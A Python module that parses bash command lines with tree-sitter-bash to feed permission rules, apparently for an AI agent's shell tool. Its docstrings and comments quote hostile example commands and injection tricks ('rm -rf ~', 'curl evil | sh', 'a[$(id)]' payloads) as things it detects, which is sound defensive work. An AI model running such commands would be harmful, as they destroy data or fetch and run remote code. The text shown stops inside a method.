"""What a ``bash`` command runs, read with a real shell parser, for the permission rules.

A rule like ``Bash(npm run test:*)`` must hold for *every* command a command line runs:
``npm run test && rm -rf ~`` runs two, ``echo $(curl evil | sh)`` three. :func:`analyse_command`
parses the line with `tree-sitter <https://tree-sitter.github.io>`_ and its maintained
``tree-sitter-bash`` grammar (both ship wheels on PyPI; the grammar is the one editors and
GitHub use for shell scripts) and returns a :class:`CommandAnalysis`:

* ``parts`` — every simple command the line runs, wherever it sits: in a list (``&&``, ``||``,
  ``;``, ``&``), a pipeline, a subshell ``( … )``, a group ``{ …; }``, a command substitution
  ``$( … )`` or backticks (inside a word, a string or a redirection too), and the bodies of
  ``if``/``for``/``while``/``case``. Each part is its words with quotes and escapes removed
  (``git commit -m "a b"`` → ``git``, ``commit``, ``-m``, ``a b``); a word whose value is known
  only when it runs (``$HOME``, ``$(date)``, ``*.py``, ``{a,b}``) is ``None``.
* ``unsafe`` — why no *allow* rule may cover the line, in words a user reads in the dialog:
  a line that does not parse; ``eval``, ``exec``, ``source``/``.``, ``command``, ``builtin`` and
  ``sh -c``-style shells (they run a command the rules cannot see); a command name that is
  computed (``$CMD``); variables set for a command or for the rest of the line (``PATH=. ls``,
  ``export``); process substitution ``<( … )``; control structures, functions, ``[[ … ]]`` and
  arithmetic (their commands still count as parts, so deny rules see them). Also whatever
  makes bash evaluate text as code: ``${x@P}`` (prompt expansion runs the ``$(…)`` in ``x``), a
  substring offset ``${x:off:len}``, a subscript ``${x[i]}``, indirection ``${!x}``, assignment
  ``${x:=w}``, ``$(( x ))``/``$[ x ]``/``(( x ))`` on a name, ``[[ a -eq b ]]``, ``let``,
  ``printf -v``, ``read``/``mapfile``/``getopts``, ``test -v``/``[ -v ]``, ``declare -i``,
  ``unset`` (a variable holding ``a[$(id)]`` runs ``id`` there); ``${x}``, ``${#x}``,
  ``${x:-w}``, ``${x:+w}``, ``${x#p}``, ``${x/p/r}``, ``${x@Q}``/``@E``… and arithmetic on
  numbers evaluate nothing and are fine. And options that run a program: ``git -c``,
  ``--config-env``, ``--exec-path``, ``--ext-diff``, ``--upload-pack``/``--receive-pack``,
  ``rebase -x``, ``grep -O``, ``rg --pre``, ``sort --compress-program``, ``tar --to-command``,
  ``find -exec``/``-delete``.
* ``writes`` also holds options that write a file: ``--output``/``--output-file``/
  ``--output-document`` in any command, ``sort -o``, ``curl -o``/``-O``/``-D``/``-c``,
  ``wget -O``/``-o``, ``git log``/``diff``/``show`` ``--output``, ``git archive -o``,
  ``git format-patch``, ``git config`` that sets a value, ``tee FILE``, ``find -fprint``. Long
  options match abbreviated too (``sort --o=f``), short ones anywhere in a cluster
  (``curl -sSLo f``). In those commands a word known only at run time may be such an option, so
  it is refused too (``sort $X``).
* ``hidden`` — what runs a command no rule can name: ``eval "$X"``, ``source``, ``bash -c "$X"``,
  ``bash script.sh`` or ``curl … | sh``, ``find -delete``, every evaluating expansion above.
  Every deny or ask rule *may* match such a line, so it asks. So does what bash expands where
  tree-sitter-bash reads plain text: a ``$`` or backtick it did not parse in an unquoted
  here-document (it parses a ``$( … )`` in a ``<<`` body, but not backticks, nor anything in a
  ``<<-`` body), a backtick substitution with ``\\``` or ``\\$`` in it (bash reads it again
  without the backslash), ``'$( … )'`` in a double-quoted ``"${x:-…}"`` (the quotes are
  characters there), a backslash-newline that joins ``$`` to ``(`` in double quotes, and a
  ``#`` inside a word (after a backslash-newline or a carriage return, which bash reads as a
  word's character and tree-sitter-bash as a blank: no comment starts there), any carriage
  return, and a here-document that does not end with its delimiter line (exactly it; after
  tabs only for ``<<-``). A line that does not
  parse is hidden too (bash may run anything in it), and so is a ``>&`` whose target holds a
  ``$`` or backtick, even quoted (bash expands ``>&'$(id)'`` ignoring the quotes). A command string that is known
  (``bash -c 'rm x'``, ``eval 'rm x'``, ``env -S``, ``flock -c``, ``find -exec rm {} +``) is
  parsed and its commands are parts.
* ``runs`` of a part — the command behind its wrappers (``sudo``, ``doas``, ``env``, ``nohup``,
  ``time``, ``timeout``, ``nice``, ``ionice``, ``stdbuf``, ``xargs``, ``command``, ``builtin``,
  ``exec``, ``setsid``, ``chroot``, ``taskset``, ``flock``, ``watch``, ``strace``, ``ltrace``,
  ``unbuffer``, ``chrt``), read with each wrapper's options (``sudo -u root rm`` → ``rm``).
* ``writes`` — files an output redirection writes (``>``, ``>>``, ``>|``, ``&>``, ``&>>``,
  ``>&`` to a name, ``<>``). **A redirection to a file writes that file, so no Bash rule allows
  it**: the line asks (or follows the mode). ``/dev/null`` and descriptor duplication (``2>&1``,
  ``>&2``) write nothing and are fine; input redirections (``<``, here-documents, ``<<<``) only
  read.

Why tree-sitter rather than ``bashlex`` or ``shlex``: ``shlex`` only splits words (no ``&&``,
``$(…)`` or redirection structure), ``bashlex`` is a port of bash's 2014 grammar that is no
longer developed and fails on common modern syntax, while tree-sitter-bash is actively
maintained, never raises (a bad line becomes ``ERROR`` nodes, which we treat as "does not
parse"), and is fast enough to run on every call (microseconds per line).

Why one module: the walk over tree-sitter-bash's tree is one concern. Every node kind's rule
(what a part runs, what it writes, what it hides from a rule) reads and adds to the same walker
state, and a construct is judged by its place in the tree (a ``$(…)`` inside a word inside a
command string); split by node kind, each piece would need the whole walker. The tables it
consults about one command (wrappers, options that write or run) are :mod:`.shell_tables`.
"""

from __future__ import annotations

import re
import threading
from collections.abc import Sequence
from contextvars import ContextVar
from dataclasses import dataclass, field, replace
from functools import cache
from typing import Any

from .shell_tables import (
    GENERIC_OUTPUT,
    GIT_ALWAYS_WRITES,
    GIT_GLOBAL,
    GIT_GLOBAL_VALUES,
    GIT_OPTIONS,
    OPTIONS,
    Flags,
    behind,
    git_config_writes,
)

__all__ = [
    "CommandAnalysis",
    "CommandPart",
    "Variable",
    "analyse_command",
    "wrapper_environment",
]

_STRUCTURE = frozenset(
    {
        "program",
        "list",
        "pipeline",
        "subshell",
        "compound_statement",
        "redirected_statement",
        "negated_command",
        "command_substitution",
        "do_group",
        "else_clause",
        "elif_clause",
        "case_item",
    }
)
"""Nodes whose named children are statements: walked for the commands inside."""

_WORDS = frozenset(
    {
        "word",
        "string",
        "raw_string",
        "concatenation",
        "number",
        "simple_expansion",
        "expansion",
        "variable_name",
        "ansi_c_string",
        "translated_string",
        "string_content",
        "arithmetic_expansion",
        "brace_expression",
        "extglob_pattern",
        "special_variable_name",
        "heredoc_body",
        "heredoc_content",
        "heredoc_start",
        "heredoc_end",
        "file_descriptor",
        "test_operator",
        "regex",
        "unary_expression",
        "binary_expression",
        "parenthesized_expression",
        "postfix_expression",
        "ternary_expression",
        "array",
    }
)
"""Nodes that are values: only searched for the command substitutions they may hold."""

_CONTROL = {
    "if_statement": "an `if` statement",
    "for_statement": "a `for` loop",
    "c_style_for_statement": "a `for` loop",
    "while_statement": "a `while` loop",
    "case_statement": "a `case` statement",
    "function_definition": "a function definition",
    "test_command": "a `[ … ]` or `[[ … ]]` test",
    "arithmetic_expansion": "arithmetic",
    "declaration_command": "a variable declaration (`export`, `declare`, `local`, …)",
    "unset_command": "`unset`",
}

_EVALUATORS = frozenset({"eval", "exec", "source", ".", "command", "builtin", "trap"})
"""Command names whose arguments are themselves run as commands."""

_SHELLS = frozenset({"sh", "bash", "zsh", "dash", "ksh", "fish", "busybox"})

_WRITES = frozenset({">", ">>", ">|", "&>", "&>>", "<>"})
_GLOB = re.compile(r"(?<!\\)[*?\[{}]")


_ARITHMETIC_TEST = re.compile(r"^(?:\[\[.*\s-(?:eq|ne|lt|le|gt|ge|v|R)\s|\[.*\s-[vR]\s)", re.DOTALL)
"""``[[ … ]]`` operators that evaluate their operands' text (``[ … ]``/``test`` compare
integers without evaluating, except ``-v``/``-R``, which evaluate a subscript)."""

_DECLARES = frozenset({"export", "declare", "typeset", "local", "readonly", "unset"})
"""The declaration builtins, when bash runs one as a plain command (``builtin export``)."""

_ASSIGNS = frozenset({"let", "read", "mapfile", "readarray", "getopts"})
"""Builtins that evaluate arithmetic or assign a variable named by a word (``printf -v`` too):
a name with a subscript, ``a[$(id)]``, runs the command inside it."""

_NAME = r"(?:[A-Za-z_][A-Za-z0-9_]*|[0-9]+|[@*#?$!_-])"
_PLAIN_EXPANSION = re.compile(
    rf"\$\{{(?:!\}}|#?{_NAME}(?:\[(?:[@*]|[0-9]+)\])?"
    r"(?:\}|:?[-+?]|##?|%%?|/[/#%]?|\^\^?|,,?|@[QEUuLaAKk]\}))",
    re.DOTALL,
)
"""The head of a ``${…}`` expansion that evaluates no text: ``${x}``, ``${#x}``, ``${x[@]}``,
``${x[0]}``, a default or alternative (``${x:-word}``, ``${x:+word}``, ``${x:?word}``), pattern
removal and replacement (``${x#p}``, ``${x/p/r}``), case changes and the transformations
``@Q``/``@E``/``@U``/``@u``/``@L``/``@a``/``@A``/``@K``/``@k``. Every other form evaluates text
bash takes from a variable: ``${x@P}`` expands it as a prompt (running its ``$(…)``), a substring
offset ``${x:off:len}`` and a subscript ``${x[i]}`` are arithmetic (``a[$(…)]`` in a variable
runs), ``${!x}`` is indirect (the name in ``x`` is evaluated), ``${x:=w}`` assigns."""

_COVERED = frozenset(
    {
        "simple_expansion",
        "expansion",
        "command_substitution",
        "arithmetic_expansion",
        "process_substitution",
        "raw_string",
        "ansi_c_string",
    }
)

_WORD_ENDS = frozenset(bytes([c]) for c in b" \t\n;&|()<>")
"""The bytes after which bash starts a word (a ``#`` there starts a comment)."""

_BACKTICK_ESCAPE = re.compile(r"\A`.*\\[`$]", re.DOTALL)
"""A backtick substitution with a backslash before a backtick or a ``$`` in its text: bash
reads the text again without that backslash, so the backtick or ``$`` starts a substitution
tree-sitter-bash read as plain text."""

_LITERAL_ARITHMETIC = re.compile(r"\$(?:\(\(|\[)[0-9\s+\-*/%()<>=!&|^~?:,]*(?:\)\)|\])")
"""Arithmetic on numbers alone; a name (or ``$x``) in it evaluates that variable's text as
arithmetic, which runs a ``$(…)`` inside a subscript: ``x='a[$(id)]'; echo $((x))``."""


def _evaluates(node: Any, quoted: bool = False) -> str | None:
    """Why the value ``node`` evaluates text as code, or ``None``; ``quoted``: it is inside a
    double-quoted string (:func:`_unexamined`)."""
    kind = node.type
    if kind == "expansion":
        text = _text(node)
        head = _PLAIN_EXPANSION.match(text)
        if head is None or _unexamined(node, head.end(), quoted):
            return f"`{text}` evaluates text it takes from a variable (that text can run commands)"
    elif kind == "arithmetic_expansion":
        text = _text(node)
        if not _LITERAL_ARITHMETIC.fullmatch(text):
            return f"arithmetic `{text}` evaluates the text of the variables it names"
    return None


def _unexamined(node: Any, start: int, quoted: bool = False) -> bool:
    """True when a ``$`` or a backtick in ``node`` after ``start`` characters is not in a node
    the walker examines (tree-sitter keeps a pattern such as ``${x#`id`}`` as plain text).

    ``quoted``: ``node`` is inside a double-quoted string, where bash keeps the quotes of
    ``"${x:-'$(id)'}"`` as characters and runs the ``$(id)`` tree-sitter-bash reads as a
    ``'…'`` string: there ``'…'`` and ``$'…'`` are not examined."""
    spans: list[tuple[int, int]] = []
    stack = list(node.named_children)
    while stack:
        child = stack.pop()
        if child.type in _COVERED and not (
            quoted and child.type in ("raw_string", "ansi_c_string")
        ):
            spans.append((child.start_byte, child.end_byte))
        else:
            stack.extend(child.named_children)
    source = _SOURCE.get()
    return any(
        source[at] in b"$`" and not any(a <= at < b for a, b in spans)
        for at in range(node.start_byte + start, node.end_byte)
    )


@dataclass(frozen=True, slots=True)
class Variable:
    """A variable a line sets: its ``name`` (``""``: one known only when it runs, ``read
    $X``, anything ``source f`` sets) and its ``value`` (``None``: known only when it runs, or
    removed: ``unset A``, ``export -n A``), and whether it is ``exported``: ``False`` for a
    shell variable the line only assigns (``A=1;``, ``read A``, ``local A``), which reaches a
    command's environment only if the environment already holds ``A`` (or ``set -a`` is on)."""

    name: str
    value: str | None
    exported: bool = True


@dataclass(frozen=True, slots=True)
class CommandPart:
    """One simple command the line runs: its ``words`` (``None``: known only at run time) and
    its ``text`` as written."""

    words: tuple[str | None, ...]
    text: str
    runs: tuple[tuple[str | None, ...], ...] = ()
    """The commands behind its wrappers, outermost first (``sudo -u root nice rm x`` →
    ``nice rm x``, ``rm x``): what deny and ask rules are matched against too."""
    assignments: tuple[Variable, ...] = ()
    """The variables it sets for the command it runs (``GIT_DIR=x git status``), and for a
    command run from a string or by ``find -exec``, those the command that ran it set for it
    too (``GIT_DIR=x bash -c 'git status'``, ``env GIT_DIR=x find . -exec git status \\;``)."""
    elsewhere: bool = False
    """Run from a string or by ``find -exec`` behind a wrapper that moves it to another folder
    (``env -C DIR bash -c 'git status'``): the folder it runs in is not the line's."""


@dataclass(frozen=True, slots=True)
class CommandAnalysis:
    """What :func:`analyse_command` found; see the module docstring."""

    parts: tuple[CommandPart, ...] = ()
    unsafe: tuple[str, ...] = ()
    writes: tuple[str, ...] = ()
    hidden: tuple[str, ...] = ()
    """What runs a command no rule can name (``eval "$X"``, ``source f``, ``bash -c "$X"``,
    ``find -delete``, ``${x@P}``, arithmetic on a variable's text): every deny or ask rule
    *may* match the line."""
    variables: tuple[Variable, ...] = ()
    """The variables the line sets, exports or unsets for the commands after (``A=1;``,
    ``export A=1``, ``unset A``, ``read A``, ``source f``), wherever they are on the line:
    what a command's environment may differ by from the one the line started with."""
    aliases: tuple[str, ...] = ()
    """The ``alias NAME=…`` commands the line runs: once one is defined (with ``shopt -s
    expand_aliases``) a later word may stand for any command line, ``git`` with another
    environment included (``alias st='GIT_DIR=x git'``)."""

    @property
    def allowable(self) -> bool:
        """True when allow rules may decide: it parses, hides nothing, writes no file and
        runs at least one command."""
        return bool(self.parts) and not self.unsafe and not self.writes


@cache
def _language() -> Any:
    import tree_sitter_bash
    from tree_sitter import Language

    return Language(tree_sitter_bash.language())


_parsers = threading.local()


def _parser() -> Any:
    """This thread's parser (a tree-sitter ``Parser`` is not safe to share between threads)."""
    parser = getattr(_parsers, "parser", None)
    if parser is None:
        from tree_sitter import Parser

        parser = _parsers.parser = Parser(_language())
    return parser


_SOURCE: ContextVar[bytes] = ContextVar("_SOURCE")
"""The command's real bytes while it is analysed (:func:`_text` reads words from them)."""


def _shadow(source: bytes) -> bytes:
    """``source`` with every byte of a non-ASCII character replaced by ``a``.

    tree-sitter-bash's scanner reads past its tables on some characters outside ASCII and
    crashes the process (``{`` then U+FFFFF is enough): a command the model writes must never
    take the worker down. In bash a non-ASCII character is part of a word, as ``a`` is, so the
    shadow parses to the same tree, with the same byte offsets; the words are then read from
    the real bytes."""
    return source.translate(_ASCII_SHADOW)


_ASCII_SHADOW = bytes(b if b < 0x80 else ord("a") for b in range(256))


def analyse_command(command: str) -> CommandAnalysis:
    """Every command ``command`` runs, what hides a command, and the files it writes."""
    source = command.encode("utf-8", "surrogatepass")
    tree = _parser().parse(_shadow(source))
    walker = _Walker()
    token = _SOURCE.set(source)
    depth = _DEPTH.set(_DEPTH.get() + 1)
    try:
        walker.statement(tree.root_node)
        if b"\r" in source:  # tree-sitter-bash reads it as a blank, bash as a word's character
            walker.unsafe.append("it holds a carriage return (bash reads it as part of a word)")
            walker.hidden.append(command)  # `echo x\r#; rm x` runs rm after `x\r#`
    finally:
        _SOURCE.reset(token)
        _DEPTH.reset(depth)
    return CommandAnalysis(
        tuple(walker.parts),
        tuple(dict.fromkeys(walker.unsafe)),
        tuple(walker.writes),
        tuple(dict.fromkeys(walker.hidden)),
        tuple(dict.fromkeys(walker.variables)),
        tuple(walker.aliases),
    )


_DEPTH: ContextVar[int] = ContextVar("_DEPTH", default=0)
"""How deep :func:`analyse_command` is in the command strings it reads (``bash -c "eval …"``)."""
_MAX_DEPTH = 4


@dataclass(frozen=True, slots=True)
class _Context:
    """What a command runs with, which a command it runs from a string (``bash -c``,
    ``eval``) or by ``find -exec`` gets too: the ``variables`` set for it (its own prefix,
    ``A=1 bash -c …``, and its wrappers', ``env A=1 bash -c …``) and whether a wrapper moved it
    to another folder (``env -C DIR``)."""

    variables: tuple[Variable, ...]
    elsewhere: bool


def _within(part: CommandPart, context: _Context | None) -> CommandPart:
    """``part``, run by a command with ``context``: it inherits those variables and folder."""
    if context is None or not (context.variables or context.elsewhere):
        return part
    return replace(
        part,
        assignments=(*context.variables, *part.assignments),
        elsewhere=part.elsewhere or context.elsewhere,
    )


@dataclass
class _Walker:
    parts: list[CommandPart] = field(default_factory=list[CommandPart])
    unsafe: list[str] = field(default_factory=list[str])
    writes: list[str] = field(default_factory=list[str])
    hidden: list[str] = field(default_factory=list[str])
    variables: list[Variable] = field(default_factory=list[Variable])
    aliases: list[str] = field(default_factory=list[str])

    def statement(self, node: Any) -> None:
        kind = node.type
        if kind == "ERROR" or node.is_missing:
            self.unsafe.append("it does not parse as a shell command")
            self.hidden.append(_text(node))  # what bash makes of it, no rule can name
            self.scan(node)
        elif kind == "command":
            self.command(node)
        elif kind in ("file_redirect", "heredoc_redirect", "herestring_redirect"):
            self.redirect(node)
        elif kind == "compound_statement" and node.children and node.children[0].type == "((":
            text = _text(node)
            if not _LITERAL_ARITHMETIC.fullmatch(text.replace("((", "$((", 1)):
                self.unsafe.append(
                    f"arithmetic `{text}` evaluates the text of the variables it names"
                )
                self.hidden.append(text)
            for child in node.named_children:
                self.scan(child)
        elif kind == "test_command" and _ARITHMETIC_TEST.search(_text(node)):
            text = _text(node)
            self.unsafe.append(f"`{text}` evaluates its operands as arithmetic")
            self.hidden.append(text)  # `[[ $x -eq 1 ]]` with x='a[$(…)]' runs that command
            for child in node.named_children:
                self.statement(child)
        elif kind in ("unset_command", "declaration_command"):
            declared = _declared(node)
            self.variables += declared if _exports(node) else _unexported(declared)
            self.unsafe.append(f"it contains {_CONTROL[kind]}, which is not analysed")
            if kind == "unset_command" or re.search(r"(?:^|\s)-[A-Za-z]*i", _text(node)):
                self.hidden.append(_text(node))  # a name `a[$(…)]` is evaluated
            for child in node.named_children:
                self.statement(child)
        elif kind in _STRUCTURE:
            if kind == "command_substitution" and _BACKTICK_ESCAPE.search(_text(node)):
                # bash removes the backslash and parses again: `echo \`id\`` runs `id`
                self.unsafe.append(
                    f"`{_text(node)}` holds an escaped backtick or `$` (it runs what follows)"
                )
                self.hidden.append(_text(node))
            for child in node.named_children:
                self.statement(child)
        elif kind == "comment":
            if not _starts_comment(_SOURCE.get(), node.start_byte):
                # `ls a\` then `#$(id)`, `ls \ #$(id)`: bash reads the word `a#$(id)`
                self.unsafe.append("a `#` inside a word (bash reads no comment there)")
                self.hidden.append(_text(node))
            return
        elif kind == "variable_assignment" or kind == "variable_assignments":
            self.variables += _unexported(_declared(node))
            self.unsafe.append(f"it sets a shell variable ({_text(node)})")
            self.scan(node)
        elif kind == "process_substitution":
            self.unsafe.append(f"it uses process substitution ({_text(node)})")
            for child in node.named_children:
                self.statement(child)
        elif kind in _WORDS:
            self.scan(node)
        else:
            self.unsafe.append(
                f"it contains {_CONTROL.get(kind, f'`{kind}`')}, which is not analysed"
            )
            for child in node.named_children:
                self.statement(child)
        if node.has_error and kind != "ERROR":
            self.unsafe.append("it does not parse as a shell command")
            self.hidden.append(_text(node))

    def scan(self, node: Any, quoted: bool = False) -> None:
        """Walk the command substitutions inside a value (a word, a string, an assignment), and
        refuse the expansions that evaluate text (:func:`_evaluates`); ``quoted``: inside a
        double-quoted string."""
        why = _evaluates(node, quoted)
        if node.type == "string" and "\\\n" in _text(node) and _unexamined(node, 0, True):
            # bash joins a line ending in a backslash to the next: `"$\` then `(id)"` runs id
            why = f"`{_text(node)}` joins lines into a `$` or backtick the rules cannot read"
        if why is not None:
            self.unsafe.append(why)
            self.hidden.append(_text(node))
        inner = quoted or node.type in ("string", "heredoc_body")  # double-quote rules inside
        for child in node.named_children:
            if child.type in ("command_substitution", "process_substitution"):
                self.statement(child)
            elif child.type == "ERROR":
                self.unsafe.append("it does not parse as a shell command")
                self.scan(child, inner)
            else:
                self.scan(child, inner)

    def command(self, node: Any) -> None:
        words: list[str | None] = []
        assignments: list[str] = []
        variables: list[Variable] = []
        for child in node.named_children:
            kind = child.type
            if kind == "variable_assignment":
                assignments.append(_text(child))
                variables += _declared(child)
                self.scan(child)
            elif kind in ("file_redirect", "heredoc_redirect", "herestring_redirect"):
                self.redirect(child)
            elif kind == "command_name":
                words.append(_value(child.named_children[0]) if child.named_children else None)
                self.scan(child)
            else:
                words.append(_value(child))
                if kind in ("command_substitution", "process_substitution"):
                    self.statement(child)
                else:
                    self.scan(child)
        if not words:  # only assignments: `A=1` as a statement
            self.variables += _unexported(variables)
            self.unsafe.append(f"it sets a shell variable ({' '.join(assignments)})")
            return
        text = _text(node)
        runs: list[tuple[str | None, ...]] = []
        current = tuple(words)
        context = _Context(tuple(variables), False)  # what the command behind runs with
        contexts = [context]
        while len(runs) < 8:
            found = behind(current)
            if found is None:
                break
            inner, strings = found
            for string in strings:
                self.unsafe.append(f"`{current[0]}` runs a command string the rules cannot see")
                self.string(string, text, context)
            if not inner:
                break
            set_here, moves = wrapper_environment(current[: len(current) - len(inner)])
            context = _Context((*context.variables, *set_here), context.elsewhere or moves)
            contexts.append(context)
            runs.append(inner)
            current = inner
        self.parts.append(CommandPart(tuple(words), text, tuple(runs), tuple(variables)))
        if words[0] is None:
            self.unsafe.append(f"its command name is computed when it runs ({text.split()[0]})")
        for run, context in zip((tuple(words), *runs), contexts, strict=True):
            self.examine(run, text, context)
        if assignments:
            self.unsafe.append(
                f"it sets variables for `{words[0] or '?'}` ({' '.join(assignments)})"
            )

    def string(self, string: str | None, text: str, context: _Context | None = None) -> None:
        """A command line the line runs as a string (``bash -c '…'``, ``eval``, ``env -S``):
        its commands count as parts when it is known, else it is hidden. Its commands run
        with the ``context`` of the command that runs it (:class:`_Context`)."""
        if string is None or _DEPTH.get() >= _MAX_DEPTH:
            self.hidden.append(text)
            self.variables.append(Variable("", None))  # `eval "$X"` may set anything
            return
        inner = analyse_command(string)
        self.parts.extend(_within(part, context) for part in inner.parts)
        self.variables.extend(inner.variables)
        self.aliases.extend(inner.aliases)
        self.unsafe.extend(inner.unsafe)
        self.writes.extend(inner.writes)
        self.hidden.extend(inner.hidden)
        if any("does not parse" in why for why in inner.unsafe):
            self.hidden.append(text)

    def examine(
        self, words: tuple[str | None, ...], text: str, context: _Context | None = None
    ) -> None:
        """What one command (the part, or the command behind a wrapper) hides or writes;
        ``context``: what it runs with, which a command it runs from a string gets too."""
        name = words[0]
        if name is None:
            return  # every rule *may* match it already (a run-time word)
        base = name.rsplit("/", 1)[-1]
        args = words[1:]
        if base in _EVALUATORS:
            self.unsafe.append(f"`{name}` runs a command the rules cannot see")
            if base == "eval":
                known = [w for w in args if w is not None]
                self.string(" ".join(known) if len(known) == len(args) else None, text, context)
            elif base == "trap":
                if args and args[0] != "-" and not (args[0] or "").startswith("-"):
                    self.string(args[0], text)  # runs later, in the shell's own environment
            elif base in ("source", "."):
                self.hidden.append(text)
                self.variables.append(Variable("", None))  # whatever the file sets
            # exec, command, builtin: the command behind them is a `runs` entry (behind)
        elif base in _SHELLS:
            self.shell(name, args, text, context)
        elif base in _ASSIGNS or (base == "printf" and args and (args[0] or "-v")[:2] == "-v"):
            self.variables += _read_names(args)
            self.unsafe.append(
                f"`{name}` sets a shell variable (a name like `a[$(…)]` runs that command)"
            )
            self.hidden.append(text)
        elif base in _DECLARES:
            # `builtin export A=1`, `\export A=1`, `x=1 export A=1`: a declaration bash runs
            # that tree-sitter reads as a plain command; what it sets is not read
            self.variables.append(Variable("", None))
            self.unsafe.append(f"`{name}` sets or exports shell variables, which is not analysed")
            self.hidden.append(text)
        elif base == "alias" and any(w is None or "=" in w for w in args):
            self.aliases.append(text)
            self.unsafe.append(f"`{text}` defines an alias (a later word may run anything)")
            self.hidden.append(text)
        elif base in ("test", "[") and any(w is None or w in ("-v", "-R") for w in args):
            self.unsafe.append(f"`{name} -v` evaluates a variable name (`a[$(…)]` runs it)")
            self.hidden.append(text)
        elif base == "find":
            self.find(words, text, context)
        self.options(words, text)

    def shell(
        self, name: str, args: tuple[str | None, ...], text: str, context: _Context | None = None
    ) -> None:
        """``bash -c STRING`` reads STRING as commands; ``bash FILE`` (or stdin) runs a script.
        An option that changes what an assignment does (``-a``/``-o allexport`` exports each
        one; ``-k``/``-o keyword`` makes ``A=1`` anywhere among a command's words part of its
        environment; any other ``-o``) leaves the variables its commands see known only when
        they run."""
        string = False
        index = 0
        while index < len(args):
            word = args[index]
            if word is None:
                break
            if word in ("-o", "+o", "-O", "+O", "--rcfile", "--init-file"):
                value = args[index + 1] if index + 1 < len(args) else ""
                if word in ("-o", "+o") and value in (None, "allexport", "keyword"):
                    self.variables.append(Variable("", None))  # `-o allexport`: see above
                index += 2
                continue
            if word == "--" or word == "-":
                index += 1
                break
            if word[:1] in "-+" and len(word) > 1:
                string = string or (not word.startswith("--") and "c" in word)
                if not word.startswith("--") and ("a" in word or "k" in word):
                    self.variables.append(Variable("", None))  # `bash -a -c 'GIT_DIR=x; git'`
                index += 1
                continue
            break
        rest = args[index:]
        if string:
            self.unsafe.append(f"`{name} -c` runs a command string the rules cannot see")
            self.string(rest[0] if rest else None, text, context)
        elif rest or not any(w in ("--version", "--help") for w in args):
            self.hidden.append(text)  # a script, or commands read from its input

    def find(
        self, words: tuple[str | None, ...], text: str, context: _Context | None = None
    ) -> None:
        """``find -exec CMD ;`` runs CMD (a part, with find's own ``context``); ``-delete``
        deletes, ``-fprint`` writes."""
        index = 1
        while index < len(words):
            word = words[index]
            index += 1
            if word is None:
                self.unsafe.append(
                    "`find` with a word known only when it runs (it may be -exec or -delete)"
                )
                self.hidden.append(text)
            elif word in ("-exec", "-execdir", "-ok", "-okdir"):
                end = index
                while end < len(words) and words[end] not in (";", "+"):
                    end += 1
                if end > index:
                    self.parts.append(_within(CommandPart(words[index:end], text), context))
                    self.examine(words[index:end], text)
                else:
                    self.hidden.append(text)
                self.unsafe.append(f"`find {word}` runs a command for each file it finds")
                index = end + 1
            elif word == "-delete":
                self.unsafe.append("`find -delete` deletes the files it finds")
                self.hidden.append(text)
            elif word in ("-fprint", "-fprint0", "-fprintf", "-fls"):
                target = words[index] if index < len(words) else None
                self.writes.append(target if target is not None else text)

    def options(self, words: tuple[str | None, ...], text: str) -> None:
        """Options that write a file or run a program (:data:`OPTIONS`)."""
        name = words[0]
        if name is None:
            return
        base = name.rsplit("/", 1)[-1]
        args = list(words[1:])
        if base == "git":
            self.git(args, text)
            return
        for word in args:
            if word is not None and GENERIC_OUTPUT.fullmatch(word):
                self.writes.append(word)
        spec = OPTIONS.get(base)
        if spec is None:
            return
        if base == "tee":
            for word in args:
                if word is None or not word.startswith("-"):
                    self.writes.append(word if word is not None else text)
        self.flagged(base, spec, args, text)

    def flagged(self, name: str, spec: Flags, args: Sequence[str | None], text: str) -> None:
        for index, word in enumerate(args):
            if word is None:
                self.unsafe.append(
                    f"`{name}` with a word known only when it runs (it may be an option that "
                    "writes a file or runs a program)"
                )
                self.hidden.append(text)
                continue
            hit = spec.match(word)
            if hit is None:
                continue
            kind, value_next = hit
            shown = word
            if value_next and index + 1 < len(args):
                shown = f"{word} {args[index + 1] or '…'}"
            if kind == "writes":
                self.writes.append(f"{name} {shown}")
            else:
                self.unsafe.append(f"`{name} {shown}` runs a program the rules cannot see")
                self.hidden.append(text)

    def git(self, args: list[str | None], text: str) -> None:
        """git's own options (``-c``, ``--exec-path``…) and its subcommand's (``--output``…)."""
        index = 0
        while index < len(args):
            word = args[index]
            if word is None or not word.startswith("-"):
                break
            hit = GIT_GLOBAL.match(word)
            if hit is not None:
                self.unsafe.append(f"`git {word}` sets what git runs")
                self.hidden.append(text)
            if word in GIT_GLOBAL_VALUES:
                index += 1
            index += 1
        if index >= len(args):
            return
        sub = args[index]
        rest = args[index + 1 :]
        if sub is None:
            self.unsafe.append("its git subcommand is known only when it runs")
            self.hidden.append(text)
            return
        if (
            sub == "filter-branch"
            or (sub, "foreach") == ("submodule", rest[:1] and rest[0])
            or (sub == "bisect" and "run" in rest)
        ):
            self.unsafe.append(f"`git {sub}` runs commands the rules cannot see")
            self.hidden.append(text)
        if sub == "config" and git_config_writes(rest):
            self.writes.append(f"git config ({' '.join(w or '…' for w in rest)})")
        if sub in GIT_ALWAYS_WRITES:
            self.writes.append(f"git {sub}")
        spec = GIT_OPTIONS.get(sub)
        if spec is not None:
            self.flagged(f"git {sub}", spec, rest, text)

    def heredoc(self, node: Any) -> None:
        """A here-document whose delimiter is unquoted is expanded as bash reads it, and
        tree-sitter-bash parses only some of that: a ``$( … )`` in a ``<<`` body, but neither
        backticks nor anything in a ``<<-`` body. A ``$`` or backtick it did not parse runs
        what no rule can name."""
        start = next((c for c in node.named_children if c.type == "heredoc_start"), None)
        end = next((c for c in node.named_children if c.type == "heredoc_end"), None)
        if start is not None and not _ends(node, start, end):
            # bash reads to the end of the input: what tree-sitter took for the end is body
            self.unsafe.append("its here-document does not end with its delimiter")
            self.hidden.append(_text(node))
        if start is None or any(quote in _text(start) for quote in "'\"\\"):
            return  # a quoted delimiter: the body is literal text
        for body in (c for c in node.named_children if c.type == "heredoc_body"):
            text = _text(body)
            # bash joins a line ending in a backslash to the next: `$\` then `(id)` is `$(id)`
            joined = "\\\n" in text and any(mark in text for mark in "$`")
            if joined or _unexamined(body, 0, quoted=True):
                self.unsafe.append(
                    "its here-document expands a `$` or backtick the rules cannot read"
                )
                self.hidden.append(_text(body))

    def redirect(self, node: Any) -> None:
        operator = next((c.type for c in node.children if not c.is_named), "")
        targets = [c for c in node.named_children if c.type != "file_descriptor"]
        for child in node.named_children:
            if child.type in ("command_substitution", "process_substitution"):
                self.statement(child)
            elif child.type in _STRUCTURE or child.type in ("command", "file_redirect"):
                self.statement(child)  # `cat <<EOF | grep x > out`: the rest of the pipeline
            else:
                self.scan(child)
